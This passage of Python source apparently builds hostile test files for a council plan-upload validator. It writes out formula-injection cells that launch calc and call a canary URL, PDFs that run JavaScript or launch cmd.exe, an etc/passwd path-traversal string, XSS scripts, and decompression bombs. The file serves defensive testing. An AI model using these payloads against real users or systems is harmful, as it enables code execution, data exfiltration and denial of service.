    parts = xlsx_parts(f"{sheet}</sheetData></worksheet>".encode())
    parts["xl/workbook.xml"] = workbook_xml("List 1&#0;")
    return zip_of(parts)


def _many_sheets() -> bytes:
    count = 5_000
    parts = xlsx_parts()
    parts["xl/workbook.xml"] = workbook_xml(*(f"S{n}" for n in range(1, count + 1)))
    parts["xl/_rels/workbook.xml.rels"] = relationships(
        *(_rel(f"worksheets/sheet{n}.xml", "worksheet", f"rId{n}") for n in range(1, count + 1))
    )
    for n in range(2, count + 1):
        parts[f"xl/worksheets/sheet{n}.xml"] = sheet_xml([["x"]])
    return zip_of(parts, level=1)


def _encodings(add) -> None:
    cat = "non-UTF-8 text"
    plan = text_plan("Café provision reviewed: £5k")
    csv = (
        "Test Council Improvement Plan\r\n\r\n1: PRIORITY ONE\r\n\r\n"
        "Ref,Actions,Lead,Timescale\r\n1.1,Café review,DCS,March 2025\r\n"
    )
    add(
        "latin1-csv",
        cat,
        "plan.csv",
        "a CSV plan in Windows-1252 (as Excel on Windows saves)",
        lambda: csv.encode("cp1252"),
        accepted_by=(PLAN, EVIDENCE),
    )
    add(
        "latin1-txt",
        cat,
        "plan.txt",
        "a text plan in Latin-1",
        lambda: plan.encode("latin-1"),
        accepted_by=(EVIDENCE,),
    )
    add(
        "latin1-values",
        cat,
        "values.csv",
        "values in Latin-1",
        lambda: "measure,period,value,note\r\nRE1,2025-01,31.4,café\r\n".encode("latin-1"),
        accepted_by=(EVIDENCE,),
    )
    add(
        "utf16-bom-csv",
        cat,
        "plan.csv",
        "a CSV plan in UTF-16 with a byte order mark",
        lambda: csv.encode("utf-16"),
    )
    add(
        "utf16-no-bom-txt",
        cat,
        "report.txt",
        "a report in UTF-16 big-endian, no byte order mark",
        lambda: plan.encode("utf-16-be"),
    )
    add("utf32-txt", cat, "plan.txt", "a text plan in UTF-32", lambda: plan.encode("utf-32"))
    add(
        "invalid-utf8",
        cat,
        "report.txt",
        "text with bytes that are never UTF-8",
        lambda: b"Inspection \xc3\x28 report \xa0\xa1 \xff\xfe",
        accepted_by=(EVIDENCE,),
    )
    add(
        "overlong-utf8",
        cat,
        "plan.txt",
        "an overlong UTF-8 '/' (\\xc0\\xaf) in a path",
        lambda: (
            text_plan().encode() + b"1.2\t..\xc0\xaf..\xc0\xafetc\xc0\xafpasswd\tDCS\tMarch 2025\n"
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "surrogate-utf8",
        cat,
        "plan.json",
        "a UTF-8-encoded surrogate (\\xed\\xa0\\x80)",
        lambda: json_plan(title="x").encode().replace(b'"x"', b'"\xed\xa0\x80"'),
    )
    add(
        "shift-jis-csv",
        cat,
        "values.csv",
        "values in Shift-JIS",
        lambda: "measure,period,value,note\r\nRE1,2025-01,31.4,日本語\r\n".encode("shift_jis"),
        accepted_by=(EVIDENCE,),
    )
    add(
        "mixed-encodings-csv",
        cat,
        "plan.csv",
        "UTF-8, then a Latin-1 byte half-way",
        lambda: csv.encode() + "1.2,Naïve,DCS,May 2025\r\n".encode("latin-1"),
        accepted_by=(PLAN, EVIDENCE),
    )
    add(
        "control-characters",
        cat,
        "report.txt",
        "text full of control characters (no NULs)",
        lambda: bytes(range(1, 32)) * 200,
        accepted_by=(EVIDENCE,),
    )
    add(
        "bidi-overrides",
        cat,
        "plan.txt",
        "Trojan-source bidirectional overrides in an action",
        lambda: text_plan("Review\u202e\u2066 thresholds\u2069\u202c").encode(),
        accepted_by=(PLAN, EVIDENCE),
    )


def _injection_and_json(add, home: str) -> None:
    cat = "formula injection and JSON"
    formulas = [
        "=cmd|' /C calc'!A0",
        f'=HYPERLINK("{home}/?"&A1,"Open")',
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ]
    add(
        "formula-csv-plan",
        cat,
        "plan.csv",
        "a CSV plan whose cells are formulas",
        lambda: csv_plan(
            *(
                [f"1.{n}", text.replace('"', '""'), text.replace('"', '""'), "March 2025"]
                for n, text in enumerate(formulas, 1)
            )
        ),
        accepted_by=(PLAN, EVIDENCE),
    )
    add(
        "formula-values",
        cat,
        "values.csv",
        "values whose measure and note cells are formulas",
        lambda: (
            "measure,period,value,note\r\n"
            + "".join(
                f'"{text.replace(chr(34), chr(34) * 2)}",2025-01,1,'
                f'"{text.replace(chr(34), chr(34) * 2)}"\r\n'
                for text in formulas
            )
        ).encode(),
        accepted_by=(VALUES, EVIDENCE),
    )
    add(
        "formula-xlsx",
        cat,
        "annex-a.xlsx",
        "an Annex A list whose cells are formulas calling the canary URL (WEBSERVICE)",
        lambda: xlsx(
            f'{XML_HEAD}<worksheet xmlns="{NS_S}"><sheetData>'.encode()
            + sheet_xml([ANNEXA_HEADER], head="").split(b"<sheetData>")[1].split(b"</sheetData>")[0]
            + f'<row r="2"><c r="A2" t="str"><f>WEBSERVICE("{home}/x")</f><v>C1</v></c><c r="B2" '
            f"t=\"str\"><f>=cmd|' /C calc'!A0</f><v>M</v></c></row>".encode()
            + b"</sheetData></worksheet>"
        ),
        accepted_by=(ANNEXA, EVIDENCE),
    )
    add(
        "xss-text-plan",
        cat,
        "plan.txt",
        "a text plan whose action is a script",
        lambda: text_plan("<script>alert('g2g')</script><img src=x onerror=alert(1)>").encode(),
        accepted_by=(PLAN, EVIDENCE),
    )
    add(
        "json-deep-arrays",
        cat,
        "plan.json",
        "arrays nested 100,000 deep",
        lambda: b"[" * 100_000 + b"]" * 100_000,
    )
    add(
        "json-deep-objects",
        cat,
        "plan.json",
        "objects nested 50,000 deep in a plan",
        lambda: (
            json_plan(title="x").encode().replace(b'"x"', b'{"a":' * 50_000 + b"1" + b"}" * 50_000)
        ),
    )
    add(
        "json-huge-integer",
        cat,
        "plan.json",
        "a priority number of 100,000 digits",
        lambda: json_plan().encode().replace(b'"number": 1', b'"number": ' + b"9" * 100_000),
    )
    add(
        "json-huge-decimal",
        cat,
        "plan.json",
        "a measure target of 1E+999999999",
        lambda: json_plan(
            measures=[{"name": "M", "targets": [{"due": "2025-03-31", "value": "1E+999999999"}]}]
        ).encode(),
    )
    add(
        "json-nan-target",
        cat,
        "plan.json",
        "a measure target of NaN",
        lambda: json_plan(
            measures=[{"name": "M", "targets": [{"due": "2025-03-31", "value": "NaN"}]}]
        ).encode(),
    )
    add(
        "json-lone-surrogate",
        cat,
        "plan.json",
        "a title holding an unpaired surrogate (\\ud800), which no page can be encoded with",
        lambda: json_plan(title="x").encode().replace(b'"x"', b'"A \\ud800 B"'),
    )
    add(
        "json-nul-in-text",
        cat,
        "plan.json",
        "a title holding a NUL character (\\u0000), which PostgreSQL text cannot hold",
        lambda: json_plan(title="x").encode().replace(b'"x"', b'"A \\u0000 B"'),
    )
    add(
        "json-100k-actions",
        cat,
        "plan.json",
        "100,000 actions with the same ref",
        lambda: json_plan(
            priorities=[
                {
                    "number": 1,
                    "title": "P",
                    "objectives": [
                        {"title": "O", "actions": [{"ref": "1", "title": "a"}] * 100_000}
                    ],
                }
            ]
        ).encode(),
    )
    add(
        "json-long-text",
        cat,
        "plan.json",
        "a 15 MB action title",
        lambda: json_plan(title="x").encode().replace(b'"x"', b'"' + b"x" * (15 * MB) + b'"'),
    )
    add(
        "json-utf16",
        cat,
        "plan.json",
        "a plan export in UTF-16",
        lambda: json_plan().encode("utf-16"),
    )


def _pdfs(add, home: str) -> None:
    cat = "PDF"
    text = "Inspection of Test Council children's services"
    add(
        "pdf-javascript",
        cat,
        "report.pdf",
        "a PDF that runs JavaScript when opened",
        lambda: simple_pdf(
            text,
            catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert("
            b"'g2g')) >> >>",
        ),
    )
    add(
        "pdf-javascript-names",
        cat,
        "audit.pdf",
        "JavaScript in the document's name tree",
        lambda: simple_pdf(
            text,
            catalog=b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) << /S "
            b"/JavaScript /JS (app.launchURL('" + home.encode() + b"')) >>] >> >> >>",
        ),
    )
    add(
        "pdf-javascript-escaped",
        cat,
        "audit.pdf",
        "JavaScript spelt with #xx escapes (/J#61vaScript, /#4aS)",
        lambda: simple_pdf(
            text,
            catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript "
            b"/#4aS (app.alert(1)) >> >>",
        ),
    )
    add(
        "pdf-javascript-object-stream",
        cat,
        "audit.pdf",
        "a JavaScript open action hidden in a compressed object stream",
        lambda: pdf(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
            PAGES,
            page(),
            stream(text_ops(text)),
            FONT,
            stream(
                b"6 0 << /S /JavaScript /JS (app.alert(1)) >>",
                b"/Type /ObjStm /N 1 /First 4",
                compress=True,
            ),
        ),
    )
    add(
        "pdf-launch",
        cat,
        "report.pdf",
        "a PDF whose open action launches a program",
        lambda: simple_pdf(
            text,
            catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) "
            b"/Win << /F (cmd.exe) /P (/c calc) >> >> >>",
        ),
    )
    add(
        "pdf-embedded-file",
        cat,
        "audit.pdf",
        "a PDF carrying a program as an attachment",
        lambda: (
            simple_pdf(
                text,
                catalog=b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names "
                b"[(run.exe) << /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>] >> >> >>",
            )
            + b"6 0 obj\n"
            + stream(b"MZ\x90\x00", b"/Type /EmbeddedFile")
            + b"\nendobj\n"
        ),
    )
    add(
        "pdf-remote-link",
        cat,
        "report.pdf",
        "a link and a remote go-to pointing at the canary URL",
        lambda: simple_pdf(
            text,
            page_extra=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
            b"/A << /S /URI /URI ("
            + home.encode()
            + b") >> >> << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F ("
            + home.encode()
            + b"/r.pdf) /D [0 /Fit] >> >>]",
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-xref-loop",
        cat,
        "report.pdf",
        "a cross-reference table whose /Prev points at itself",
        _xref_loop,
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-object-stream-bomb",
        cat,
        "report.pdf",
        "an object stream claiming 10,000,000 objects",
        lambda: pdf(
            CATALOG,
            PAGES,
            page(),
            stream(text_ops(text)),
            FONT,
            stream(b"1 0 " * 1000, b"/Type /ObjStm /N 10000000 /First 4000"),
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-deflate-bomb",
        cat,
        "report.pdf",
        "a page whose content inflates to 256 MB",
        _pdf_deflate_bomb,
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-operator-flood",
        cat,
        "report.pdf",
        "a page of 3 million text operators, packed small",
        lambda: pdf(
            CATALOG,
            PAGES,
            page(),
            stream(b"BT /F1 1 Tf " + b"(a) Tj " * 3_000_000 + b"ET", compress=True),
            FONT,
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-content-under-limit",
        cat,
        "report.pdf",
        "115 pages of dense text operators, just under the limit on drawing instructions",
        _dense_pages,
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-many-pages",
        cat,
        "report.pdf",
        "a page tree listing one page 100,000 times",
        lambda: pdf(
            CATALOG,
            b"<< /Type /Pages /Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000 >>",
            page(),
            stream(text_ops(text)),
            FONT,
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-page-tree-loop",
        cat,
        "report.pdf",
        "a page tree that contains itself",
        lambda: pdf(
            CATALOG,
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            page(),
            stream(text_ops(text)),
            FONT,
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-deep-arrays",
        cat,
        "report.pdf",
        "arrays nested 100,000 deep",
        lambda: pdf(
            CATALOG,
            PAGES,
            page(extra=b"/X " + b"[" * 100_000 + b"]" * 100_000),
            stream(text_ops(text)),
            FONT,
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-huge-xref",
        cat,
        "report.pdf",
        "a cross-reference section claiming 100,000,000 entries",
        lambda: simple_pdf(text).replace(b"xref\n0 6\n", b"xref\n0 100000000\n"),
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-startxref-past-end",
        cat,
        "report.pdf",
        "startxref pointing past the end of the file",
        lambda: simple_pdf(text).rsplit(b"startxref", 1)[0] + b"startxref\n99999999999\n%%EOF\n",
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-encrypted-rc4",
        cat,
        "report.pdf",
        "a PDF encrypted with a user password (RC4)",
        lambda: simple_pdf(text).replace(
            b"trailer\n<<",
            b"trailer\n<< /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <"
            + b"11" * 32
            + b"> /U <"
            + b"22" * 32
            + b"> >> /ID [<"
            + b"33" * 16
            + b"> <"
            + b"33" * 16
            + b">]",
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-encrypted-aes",
        cat,
        "report.pdf",
        "a PDF encrypted with AES-256 and a password",
        lambda: simple_pdf(text).replace(
            b"trailer\n<<",
            b"trailer\n<< /Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -3904 /CF << "
            b"/StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF /StrF "
            b"/StdCF /O <"
            + b"11" * 48
            + b"> /U <"
            + b"22" * 48
            + b"> /OE <"
            + b"44" * 32
            + b"> /UE <"
            + b"55" * 32
            + b"> /Perms <"
            + b"66" * 16
            + b"> >> /ID [<"
            + b"33" * 16
            + b"> <"
            + b"33" * 16
            + b">]",
        ),
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-truncated",
        cat,
        "report.pdf",
        "a PDF cut in half",
        lambda: simple_pdf(text)[: len(simple_pdf(text)) // 2],
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-header-only",
        cat,
        "report.pdf",
        "'%PDF-1.7' and nothing else",
        lambda: b"%PDF-1.7\n",
        accepted_by=(EVIDENCE,),
    )
    add(
        "pdf-no-text",
        cat,
        "report.pdf",
        "a well-formed PDF with no text at all",
        lambda: pdf(CATALOG, PAGES, page(), stream(b"0 0 m 100 100 l S"), FONT),
        accepted_by=(EVIDENCE,),
    )


def _pdf_deflate_bomb() -> bytes:
    content = zeros_zlib(256)
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content
    return pdf(CATALOG, PAGES, page(), body + b"\nendstream", FONT)


def _dense_pages() -> bytes:
    """115 pages sharing one 12.8 KB content stream of 1,600 operators and operands: about
    1.45 MB of drawing instructions in all, just under the most a report may hold."""
    content = stream(b"BT /F1 1 Tf " + b"(Inspection) Tj " * 800 + b"ET", compress=True)
    kids = b" ".join(b"%d 0 R" % (6 + n) for n in range(115))
    pages = [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    ] * 115
    tree = b"<< /Type /Pages /Kids [" + kids + b"] /Count 115 >>"
    return pdf(CATALOG, tree, page(), content, FONT, *pages)


def _xref_loop() -> bytes:
    data = simple_pdf("Report")
    start = data.rfind(b"startxref\n") + len(b"startxref\n")
    offset = int(data[start:].split(b"\n", 1)[0])
    return data.replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % offset)


def _images(add) -> None:
    cat = "images"
    add(
        "png-bomb",
        cat,
        "chart.png",
        "a PNG of 100,000 x 100,000 pixels from 10 MB of zeros",
        lambda: png(100_000, 100_000, zlib.compress(bytes(10 * MB), 9)),
    )
    add(
        "png-truncated",
        cat,
        "chart.png",
        "a PNG cut after its header",
        lambda: png()[:20],
        accepted_by=(EVIDENCE,),
    )
    add("png-named-jpg", cat, "photo.jpg", "a PNG named .jpg", lambda: png())
    add("jpeg-named-png", cat, "chart.png", "a JPEG named .png", jpeg)
    add(
        "png-with-script",
        cat,
        "chart.png",
        "a PNG whose text chunk holds a script",
        lambda: (
            png()[:-12]
            + struct.pack(">L", 40)
            + b"tEXt"
            + b"Comment\0<script>alert('g2g')</scr"
            + b"\0\0\0\0"
            + png()[-12:]
        ),
        accepted_by=(EVIDENCE,),
    )
